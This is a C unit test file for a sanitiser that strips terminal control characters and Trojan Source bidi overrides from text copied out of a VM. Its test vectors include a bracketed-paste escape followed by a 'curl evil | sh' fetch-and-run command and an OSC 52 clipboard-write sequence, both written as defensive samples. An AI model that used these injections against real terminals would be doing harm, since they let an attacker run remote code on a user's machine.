/* What a copy removes from a VM's text (host/ctl/ctl_clip_text.c): vectors
 * of the attacks it is for (an early end of a bracketed paste, 7-bit and
 * 8-bit escapes, Trojan Source reordering), what it keeps (tabs, line ends,
 * every other character, ZWJ sequences, the bidi marks of right-to-left
 * text), every code point checked against the list, and the list against
 * lib/text_escape's table (everything removed is something the escaper
 * hides too). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "ctl_clip_text.h"
#include "text_escape.h"
#include "utf8.h"

static const struct {
	const char *in, *out;
	uint32_t removed;
	size_t in_len; /* 0: strlen(in); else in has NULs */
} vectors[] = {
    {"", "", 0, 0},
    {"plain text\n", "plain text\n", 0, 0},
    {"tab\tcr\r\nlf\n", "tab\tcr\r\nlf\n", 0, 0},
    /* A bracketed paste ended early, then a command. */
    {"harmless\x1b[201~; curl evil | sh\n", "harmless[201~; curl evil | sh\n", 1, 0},
    /* OSC 52 (set the clipboard) and a title change, BEL-terminated. */
    {"\x1b]52;c;ZXZpbA==\x07x", "]52;c;ZXZpbA==x", 2, 0},
    /* 8-bit CSI and OSC as UTF-8 code points U+009B, U+009D; DEL. */
    {"a\xc2\x9b"
     "201~b\xc2\x9d"
     "0;t\xc2\x9c"
     "c\x7f",
     "a201~b0;tc", 4, 0},
    /* NUL, BS, VT, FF, SO, US. */
    {"n\x00u\x08l\x0bl\x0c!\x0e\x1f", "null!", 6, 11},
    /* U+00A0 (after the C1 block) and U+0080's neighbours stay. */
    {"\xc2\xa0\xc2\x80\xc2\x9f\xc2\xa1", "\xc2\xa0\xc2\xa1", 2, 0},
    /* Trojan Source: RLO ... PDF, and the isolates LRI RLI FSI PDI. */
    {"if (a \xe2\x80\xae} \xe2\x81\xa6x\xe2\x81\xa9\xe2\x80\xac", "if (a } x", 4, 0},
    {"\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae\xe2\x81\xa6\xe2\x81\xa7"
     "\xe2\x81\xa8\xe2\x81\xa9",
     "", 9, 0},
    /* Kept: LRM, RLM, ALM (the marks of right-to-left text), ZWJ in an
     * emoji sequence, U+2028, Hebrew, a four-byte character. */
    {"\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xe2\x80\x8e \xe2\x80\x8f\xd8\x9c"
     "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb\xe2\x80\xa8\xf0\x9f\x98\x80",
     "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xe2\x80\x8e \xe2\x80\x8f\xd8\x9c"
     "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb\xe2\x80\xa8\xf0\x9f\x98\x80",
     0, 0},
    /* Only controls: nothing left. */
    {"\x1b\x1b\x1b", "", 3, 0},
};

static void test_vectors(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(vectors) / sizeof(vectors[0]); i++) {
		uint8_t buf[256];
		size_t n = vectors[i].in_len ? vectors[i].in_len : strlen(vectors[i].in);
		memcpy(buf, vectors[i].in, n);
		uint32_t len = 12345;
		uint32_t removed = ctl_clip_text_strip(buf, (uint32_t)n, &len);
		if (removed != vectors[i].removed || len != strlen(vectors[i].out) ||
		    memcmp(buf, vectors[i].out, len) != 0)
			fail_msg("vector %zu: %u removed, %u bytes left", i, removed, len);
	}
}

/* Every code point: exactly the documented set goes. */
static void test_every_code_point(void **state)
{
	(void)state;
	uint32_t removed = 0;
	for (uint32_t cp = 0; cp <= 0x10ffff; cp++) {
		bool want = (cp < 0x20 && cp != '\t' && cp != '\n' && cp != '\r') ||
			    (cp >= 0x7f && cp <= 0x9f) || (cp >= 0x202a && cp <= 0x202e) ||
			    (cp >= 0x2066 && cp <= 0x2069);
		if (ctl_clip_text_removed(cp) != want)
			fail_msg("U+%04X", cp);
		/* Whatever a copy removes, the terminal escaper hides as well. */
		if (want && !text_escape_hidden(cp))
			fail_msg("U+%04X is removed but not in lib/text_escape's table", cp);
		removed += want;
	}
	assert_int_equal(removed, 29 + 33 + 5 + 4);
	for (size_t i = 1; i < ctl_clip_text_n_ranges; i++)
		assert_true(ctl_clip_text_ranges[i].first > ctl_clip_text_ranges[i - 1].last + 1);
}

/* A byte that starts no character is kept (the text is checked first). */
static void test_invalid_kept(void **state)
{
	(void)state;
	uint8_t buf[] = {'a', 0xff, 0x1b, 0xc2, 0x9b, 0xc2};
	uint32_t len;
	assert_int_equal(ctl_clip_text_strip(buf, sizeof(buf), &len), 2);
	assert_int_equal(len, 3);
	assert_memory_equal(buf, "a\xff\xc2", 3);
	/* A large text: every byte that goes is counted, the rest moves up. */
	static uint8_t big[1 << 16];
	for (size_t i = 0; i < sizeof(big); i++)
		big[i] = i % 4 == 0 ? 0x1b : 'x';
	assert_int_equal(ctl_clip_text_strip(big, sizeof(big), &len), sizeof(big) / 4);
	assert_int_equal(len, sizeof(big) / 4 * 3);
	assert_true(utf8_valid(big, len));
	assert_null(memchr(big, 0x1b, len));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_vectors),
	    cmocka_unit_test(test_every_code_point),
	    cmocka_unit_test(test_invalid_kept),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
